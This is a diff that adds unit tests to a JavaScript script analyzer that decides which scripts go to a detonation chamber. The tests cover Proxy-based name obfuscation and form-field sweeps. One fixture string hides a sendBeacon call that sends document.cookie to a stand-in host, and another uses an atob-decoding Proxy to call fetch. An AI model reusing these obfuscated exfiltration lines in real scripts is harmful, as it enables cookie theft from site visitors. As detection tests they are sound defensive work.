@@ -69,3 +69,48 @@ describe('what sends a file to the detonation chamber', () => {
     )
   })
 })
+
+describe('a Proxy that looks up other names than it is asked for', () => {
+  const reason = 'looks up names through a Proxy that rewrites them'
+  it('a trap that decodes the key it is given sends the file to the chamber', () => {
+    const renamed = `var r = function (s) { return s.split('').reverse().join('') }
+      var P = function (o) { return new Proxy(o, { get: function (t, k) { var n = r(k); return t[n] } }) }
+      var W = P(window); W.nocaeBdnes('https://m.example/c', W.tnemucod.eikooc)`
+    expect(analyzeScript(renamed).triage ?? []).toContain(reason)
+    const viaReflect = `const h = { get(t, k, rx) { return Reflect.get(t, atob(k), rx) } }
+      const g = new Proxy(self, h); g.ZmV0Y2g('/x')`
+    expect(analyzeScript(viaReflect).triage ?? []).toContain(reason)
+  })
+  it('not a reactive store or logger that looks up the key it was given', () => {
+    const reactive = `function track(t, k) { deps.push([t, k]) }
+      var deps = []
+      function reactive(o) { return new Proxy(o, { get(t, k, r) { track(t, String(k)); return Reflect.get(t, k, r) },
+        set(t, k, v) { t[k] = v; return true } }) }
+      var state = reactive({ count: 0 }); state.count++`
+    expect(analyzeScript(reactive).triage ?? []).not.toContain(reason)
+  })
+})
+
+describe('reading one named control of a form is not a sweep', () => {
+  const post = (
+    read: string,
+  ) => `document.querySelector('form.contact').addEventListener('submit', function (e) {
+      var f = e.target; e.preventDefault()
+      ${read}
+      fetch('https://forms.example.net/submit', { method: 'POST', body: JSON.stringify(data) })
+    })`
+  it('controls asked for by name (namedItem, a property, a string key) are named reads', () => {
+    for (const read of [
+      `var data = { email: f.elements.namedItem('email').value, msg: f.elements.namedItem('message').value }`,
+      `var data = { email: f.elements.email.value, msg: f.elements['message'].value }`,
+    ]) {
+      const v = analyzeScript(post(read))
+      expect(v.findings.map((x) => x.message).join('\n')).not.toMatch(/every form field/)
+    }
+  })
+  it('walking the collection stays a sweep of every field', () => {
+    const read = `var data = {}; for (var i = 0; i < f.elements.length; i++) data[f.elements[i].name] = f.elements[i].value`
+    const v = analyzeScript(post(read))
+    expect(v.findings.map((x) => x.message).join('\n')).toMatch(/every form field/)
+  })
+})
